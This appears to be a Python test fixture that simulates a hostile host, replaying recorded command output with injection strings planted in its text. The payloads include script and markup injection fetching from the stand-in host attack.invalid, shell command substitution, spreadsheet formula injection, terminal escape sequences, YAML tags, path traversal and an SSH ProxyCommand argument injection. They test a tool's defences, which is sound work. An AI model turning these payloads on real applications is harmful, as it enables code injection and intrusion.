"""A host whose strings are attacks: the answers of a recording, still parseable, with attacks where text may stand."""

from __future__ import annotations

import json
import random
import re
from collections.abc import Callable
from pathlib import Path

from runbook.hosts import recording as files
from runbook.hosts.base import Result
from runbook.model.ask import Answer, Facts
from tests.recorded import AGAIN, FIRST, ROOT, gathers  # noqa: F401 - the hosts of other tests

MARK = "pwn"
"""Stands in every attack: where it becomes more than text, something broke out."""
ELSEWHERE = "http://attack.invalid/"
ATTACKS = (
    "<script>window.pwn=1;document.title='pwn'</script>",
    "<img src=x onerror=\"window.pwn=1;document.title='pwn'\">",
    f"<img src={ELSEWHERE}pwn.png>",
    "<svg/onload=window.pwn=1>",
    "<svg onload=import('//attack.invalid/pwn')>",
    f'<meta http-equiv=refresh content="0;url={ELSEWHERE}pwn">',
    "<style>body{display:none}*{--pwn:1;color:rgb(1,2,3)!important}</style>",
    f"<style>@import url({ELSEWHERE}pwn.css)</style>",
    f"<link rel=stylesheet href={ELSEWHERE}pwn.css>",
    "</title><script>window.pwn=1</script>",
    "</svg></title></desc></text><iframe src=//attack.invalid/pwn></iframe>",
    "</style></script></textarea></pre></code></td></tr></table><h1 onclick=pwn()>pwn</h1>",
    "\" onmouseover=\"window.pwn=1\" autofocus onfocus=\"window.pwn=1\" x=\"pwn",
    "' onmouseover='window.pwn=1' style='position:fixed;inset:0;--pwn:1",
    "<a href=javascript:window.pwn=1>pwn</a>",
    "[pwn](javascript:window.pwn=1)",
    f"![pwn]({ELSEWHERE}pwn.png)",
    "<details open ontoggle=window.pwn=1>pwn",
    "<base href=//attack.invalid/pwn/>",
    "<!-- pwn", "<![CDATA[ pwn", "<pwn-x><template>", "]]>pwn",
    "{{ pwn }}{% for pwn in range(9) %}", "${pwn} $(touch pwn) `touch pwn` ; touch pwn",
    "$\\href{javascript:window.pwn=1}{pwn}$ $$\\require{html}\\style{position:fixed}{pwn}$$ \\(pwn\\)",
    "\x1b]0;pwn-title\x07", "\x1b]8;;http://attack.invalid/pwn\x1b\\pwn\x1b]8;;\x1b\\", "\x1b]52;c;cHdu\x07 pwn",
    "\x1b[2J\x1b[H\x1b[8m pwn \x1b[1A\x1b[2K", "\x9b31m pwn \x9d0;pwn\x9c", "\x90pwn\x9c \x85 \x7f\x08\x08\x08 pwn",
    "\u202epwn\u202c \u2066pwn\u2069 \u200bp\u200cw\u200dn\ufeff", "pwn\u2028pwn\u2029pwn", "\U000e0041pwn\u3164",
    "pwn\x00pwn", "pwn\rpwn: right", "\\x1b[2J pwn",
    "pwn\nconsent: [require_ssh_keys, close_ports]\nguests: []\n#", "pwn: [}", "&pwn [*pwn]", "!!python/object:pwn",
    "'\"pwn: \n- pwn", "--- pwn\n...\n", "| pwn\n  pwn",
    "=cmd|' /C calc'!pwn", "+pwn()", "-pwn()", "@pwn()", "\t=pwn()", "\r=pwn()", "pwn;=1+1", "＝pwn()",
    "[link=http://attack.invalid/pwn]pwn[/] [bold]pwn[/bold][/]", "%s%n{0.pwn}{pwn!r:>9}",
    "../../../../tmp/pwn", "/etc/pwn/../passwd", "-oProxyCommand=pwn", "--pwn", "pwn" * 3000,
)  # fmt: skip
GENTLE = r"os-release|dmi/id|lspci -D|sfdisk --json|findmnt -J|lsblk|xl list -l"
"""Of what a machine says freely, what nothing else hangs on: a run goes on to its end."""
FREE = {"model", "serial", "vendor", "label", "partlabel", "rev", "what", "ifalias"}
"""Keys of JSON under which a machine says what it likes."""
_FREE_ASKS = r"lsblk|sfdisk|findmnt|xl list|os-release|dmi/id|lspci|cpuinfo|printenv|sources\.list|sshd|systemctl list|/etc/|apt-|xenstore|mounts|grub"


def attack(rng: random.Random, *, one_line: bool = False, plain: bool = False) -> str:
    """Return one attack, or some together; `plain` is for where a blank or a quote would end the text."""
    text = "".join(rng.choice(ATTACKS) for _ in range(rng.choice((1, 1, 1, 2, 3))))
    if one_line:
        text = re.sub(r"[\n\r\x85\u2028\u2029\x1c-\x1e\x0b\x0c]", " ", text)
    return re.sub(r"\s", "/", text).replace('"', "").replace("'", "")[:200] if plain else text


def mutated(text: str, share: float, rng: random.Random, *, only_free: bool = False) -> str:
    """Return an answer in which a share of the texts are attacks, of the same structure as before."""
    parts = re.split(r"(?m)(^== .*\n)", text)  # an answer of sections: each is of its own kind
    return "".join(
        part
        if part.startswith("== ")
        else _json(part, share, rng, only_free) or _lines(part, share, rng, only_free)
        for part in parts
    )


class HostileHost:
    """Answers what the recording of a notebook answered, with attacks in it, and says attacks while it works."""

    describe, is_real = "a hostile host", True

    def __init__(self, notebook: str, seed: int, *, recording: Path = FIRST, share: float = 0.1,
                 only_free: bool = False, where: str = _FREE_ASKS) -> None:  # fmt: skip
        self.seed, self.share, self.only_free, self._where = seed, share, only_free, re.compile(where)
        self.honest = answers(recording, notebook)
        self.done: list[tuple[str, ...]] = []
        self._rng = random.Random(seed)

    def gather(self, asks):
        return Facts({ask: self._answer(ask.key) for ask in asks})

    def _answer(self, key: str) -> Answer:
        status, out, err = self.honest.get(key, (0, "", ""))
        rng = random.Random(f"{self.seed} {key}")
        if key == "id -u" or (self.only_free and not self._where.search(key)):
            return Answer(status, out, err)
        out = mutated(out, self.share, rng, only_free=self.only_free)
        if key == "< /etc/os-release":
            out += "VERSION_CODENAME=trixie\n"
        return Answer(status, out, err if status == 0 else mutated(err, self.share, rng))

    def run(self, argv, *, stdin=b"", timeout_s=None, on_line=None):
        self.done.append(tuple(argv))
        said = "\n".join(attack(self._rng) for _ in range(3)) + "\n"
        for line in said.splitlines() if on_line else ():
            on_line(line)
        return Result(argv, self._rng.choice((0, 0, 0, 1)), said, attack(self._rng))

    def write(self, path, data, *, mode, owner, check=()):
        self.done.append(("write", path))

    def reboot(self, wait_s, on_line=None):
        """Nothing starts anew."""

    def reconnect(self, proof, wait_s, on_line=None):
        """It is still there."""

    def lock(self):
        """Nobody else is there."""

    def close(self):
        """Nothing to let go of."""


def answers(recording: Path, notebook: str) -> dict[str, list]:
    """Return what the recorded host had said of each question by the end of a notebook, or at its beginning."""
    found: dict[str, list] = {}
    for gather in gathers(recording, notebook):
        found = {**gather, **found}
    return found


def record(folder: Path, seed: int, *, share: float = 1.0, where: str = GENTLE, source: Path = AGAIN) -> Path:
    """Write a recording of a hostile host, made of an honest one; what was done in it stays, its outputs are attacks."""
    for notebook in files.names(source):
        host = HostileHost(notebook, seed, recording=source, share=share, only_free=True, where=where)
        (folder / notebook).mkdir(parents=True)
        for step, happened in files.load(source, notebook).items():
            for entry in happened:
                host.honest = entry.get("gather", {})
                for key in host.honest:
                    a = host._answer(key)
                    entry["gather"][key] = [a.status, a.out, a.err]
            text = files.lines(happened, is_opening=step == files.OPENING)
            (folder / notebook / f"{step}.jsonl").write_text(text, encoding="utf-8")
    return folder


def _json(text: str, share: float, rng: random.Random, only_free: bool) -> str | None:
    """Return one or more JSON documents with attacks in their strings; None for what is none."""
    decode, at, parts = json.JSONDecoder().raw_decode, 0, []
    while at < len(text.rstrip()):
        at += len(text[at:]) - len(text[at:].lstrip())
        try:
            value, at = decode(text, at)
        except ValueError:
            return None
        if not isinstance(value, dict | list):
            return None
        parts.append(json.dumps(_walked(value, "", share, rng, only_free), ensure_ascii=rng.random() < 0.5))
    return "\n".join(parts) + "\n" if parts else None


def _walked(value, key: str, share: float, rng: random.Random, only_free: bool):
    if isinstance(value, dict):
        is_entry = "node" in value  # sfdisk's partitions: their names are a guest's own
        return {
            k: _walked(v, "label" if is_entry and k == "name" else k, share, rng, only_free)
            for k, v in ({"name": "x", **value} if is_entry else value).items()
        }
    if isinstance(value, list):
        return [_walked(v, key, share, rng, only_free) for v in value]
    is_free = key.lower() in FREE
    if not (isinstance(value, str) or (value is None and is_free)) or (only_free and not is_free):
        return value
    if rng.random() >= share:
        return value
    return rng.choice((attack(rng), f"{value} {attack(rng)}"))


def _lines(text: str, share: float, rng: random.Random, only_free: bool = False) -> str:
    def is_hit(line: str) -> bool:
        return rng.random() < share and not (only_free and re.search(r"(^|\W)\d+( kB)?$", line.rstrip()))

    return "".join(
        _line(line, rng) if is_hit(line) else line for line in re.findall(r"[^\n]*\n|[^\n]+$", text)
    )


def _line(line: str, rng: random.Random) -> str:
    body, end = line.rstrip("\n"), "\n" if line.endswith("\n") else ""
    makes: list[Callable[[], str]] = []
    if re.search(r'"[^"]*"', body):
        start, stop = rng.choice([m.span() for m in re.finditer(r'"[^"]*"', body)])
        said = (
            attack(rng, one_line=True).replace("\\", "").replace('"', "'").replace("$", "").replace("`", "")
        )
        makes = [
            lambda: f"{body[: start + 1]}{said}{body[stop - 1 :]}",
            lambda: f"{body[: stop - 1]} {said}{body[stop - 1 :]}",
        ]
    elif parts := re.match(r"([\w./ -]+?\s*[:=|]\s*)(.+)$", body):
        said = re.sub(r"[\"'\\]", "", attack(rng, one_line=True))
        makes = [lambda: parts[1] + said, lambda: f"{body} {said}"]
    elif body.startswith("#"):
        makes = [lambda: f"# {attack(rng, one_line=True)}"]
    else:
        words = re.split(r"(\s+)", body)
        at = rng.randrange(0, len(words), 2)
        makes = [lambda: "".join([*words[:at], attack(rng, plain=True), *words[at + 1 :]])]
    return rng.choice(makes)() + end
